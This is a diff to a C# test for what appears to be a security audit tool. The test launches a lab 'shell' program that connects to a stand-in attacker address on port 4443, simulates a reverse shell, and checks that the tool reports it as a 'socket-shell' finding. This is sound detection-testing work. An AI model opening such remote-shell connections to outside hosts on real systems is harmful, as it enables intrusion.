@@ -46,7 +46,10 @@ public sealed class ExitCodeTests(LabFixture fixture) : RunTest(fixture)
             ["--mode", "audit", "--fail-on", failOn],
             LabNetwork.Program("shell"), "connect", LabAddresses.Attacker, "4443", "/bin/echo", "x");
         Assert.True(outcome.ExitCode == expected, outcome.ToString());
-        Assert.Equal("socket-shell", Assert.Single(Report().GetProperty("findings").EnumerateArray()).GetProperty("id").GetString());
+
+        // A machine that keeps the agent from running for seconds is found as well.
+        var found = Report().GetProperty("findings").EnumerateArray().Select(finding => finding.GetProperty("id").GetString());
+        Assert.Equal(["socket-shell"], found.Where(id => id != "observation-lost"));
     }
 
     /// <summary>HARDENING rule 8: what the proxy is asked for would not be judged.</summary>
